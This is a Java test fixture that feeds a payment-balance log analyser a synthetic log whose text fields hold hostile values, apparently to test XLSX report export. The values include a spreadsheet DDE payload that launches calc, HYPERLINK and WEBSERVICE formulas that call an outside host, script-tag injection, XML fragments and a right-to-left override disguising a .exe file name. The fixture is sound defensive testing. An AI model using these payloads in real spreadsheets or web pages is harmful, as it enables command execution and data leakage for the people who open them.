package io.calo.report.internal.xlsx;

import io.calo.analysis.AnalysisEngine;
import io.calo.analysis.AnalysisResult;
import io.calo.parser.LogEvent;
import io.calo.parser.LogReader;
import io.calo.parser.ParseLimits;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

/** An invented log in which every field that can hold text holds what would do harm as something else. */
final class Hostile {
    /** As long as no cell can be. */
    static final String LONG = "=1+" + "A".repeat(40_000);

    /** What text may look like. */
    static final List<String> TEXTS = List.of(
            "=1+1",
            "+cmd",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+2",
            "\r=1+3",
            "\n=1+4",
            " =1+5",
            "＝1+6",
            "=HYPERLINK(\"http://calo.invalid/\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "=WEBSERVICE(\"http://calo.invalid/\")",
            "';=1+7",
            "a,b;=1+8",
            "</script><script>alert(1)</script>",
            "<c r=\"A1\"><f>1+1</f></c>",
            "]]>&amp;&#x0;",
            "subscriber\u202Etxt.exe",
            "\u2066=1+9\u2069",
            "nul\u0000bell\u0007escape\u001Bend",
            "half \uD83D and \uDE00 half",
            "_x000D_ _x0041_",
            "no character \uFFFE\uFFFF",
            "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69",
            "رصيد المشترك",
            LONG);

    private static final String FILE = "=1+1\t@cmd.gz";

    private Hostile() {}

    /** The result of a log in which each of {@link #TEXTS} is everything that it can be. */
    static AnalysisResult analyze() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < TEXTS.size(); i++) {
            String text = TEXTS.get(i);
            // Agrees, parts, and is refused: all kinds of stories.
            transaction(
                    log,
                    i,
                    0,
                    text,
                    "CREDIT",
                    "paymentBalance: 100, amount: 100, vat: 0, oldBalance: 0, newBalance: 100");
            transaction(
                    log,
                    i,
                    1,
                    text,
                    "DEBIT",
                    "paymentBalance: -20, amount: 40, vat: 0, oldBalance: 100, newBalance: 60");
            refused(log, i, 2, text);
        }
        log.append("2024-03-05T00:00:00.000Z 2024-03-05T00:00:00.000Z\t")
                .append(request(900))
                .append("\tINFO\tSomething that nobody heard of =1+1\n\n");
        AnalysisEngine engine = AnalysisEngine.builder().discoverDetectors().build();
        byte[] bytes = log.toString().getBytes(StandardCharsets.UTF_8);
        ParseLimits wide = ParseLimits.builder().maxIdentifierBytes(1 << 16).build();
        try (LogReader reader = LogReader.builder().limits(wide).open(new ByteArrayInputStream(bytes), FILE)) {
            for (LogEvent event; (event = reader.read()) != null; ) {
                engine.accept(event);
            }
            return engine.finish(reader.coverage());
        }
    }

    private static void transaction(StringBuilder log, int number, int step, String text, String type, String amounts) {
        String time = time(number, step);
        String printed = printed(text);
        String start = "Start syncing the balance {\n  transaction: {\n    id: " + printed(text + step) + ", type: '"
                + type
                + "', source: " + printed + ", action: " + printed + ", userId: " + printed + ", currency: " + printed
                + ", updatePaymentBalance: true, metadata: undefined, " + amounts + "\n  }\n}";
        record(log, time, number * 3 + step, "Processing message 11111111-0000-4000-8000-000000000001");
        record(log, time, number * 3 + step, start);
        record(log, time, number * 3 + step, "SubscriptionBalanceUpdated event published");
    }

    private static void refused(StringBuilder log, int number, int step, String text) {
        record(
                log,
                time(number, step),
                number * 3 + step,
                "{\n  message: 'Subscriber will have a negative balance due to this action, the process will terminate.',\n"
                        + "  data: {\n    userId: " + printed(text) + ",\n    currentBalance: 60,\n    transactionId: "
                        + printed(text + step) + ",\n    newBalance: -12.5\n  }\n}");
    }

    private static void record(StringBuilder log, String time, int request, String message) {
        log.append(time)
                .append(' ')
                .append(time)
                .append('\t')
                .append(request(request))
                .append("\tINFO\t");
        log.append(message).append("\n\n");
    }

    private static String request(int number) {
        return String.format(Locale.ROOT, "11111111-0000-4000-8000-%012d", number);
    }

    private static String time(int number, int step) {
        return String.format(Locale.ROOT, "2024-03-04T05:%02d:%02d.000Z", number, step);
    }

    /** As Node prints it. */
    private static String printed(String text) {
        StringBuilder printed = new StringBuilder("'");
        text.codePoints().forEach(c -> {
            if (c == '\'' || c == '\\') {
                printed.append('\\').append((char) c);
            } else if (c == '\n') {
                printed.append("\\n");
            } else if (c < ' ') {
                printed.append(String.format(Locale.ROOT, "\\x%02X", c));
            } else if (c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE) {
                printed.append(String.format(Locale.ROOT, "\\u%04X", c));
            } else {
                printed.appendCodePoint(c);
            }
        });
        return printed.append('\'').toString();
    }
}
